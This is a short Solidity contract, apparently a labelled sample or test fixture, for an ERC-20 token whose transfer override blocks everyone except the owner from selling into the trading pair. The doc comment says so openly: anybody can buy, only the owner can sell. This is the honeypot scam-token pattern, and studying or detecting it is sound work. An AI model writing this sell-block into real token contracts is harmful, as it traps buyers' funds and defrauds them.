// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";

/// Anybody can buy; only the owner can sell.
contract SellBlockedToken is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(to != pair || from == owner, "TRANSFER_FAILED");
        _move(from, to, amount);
    }
}
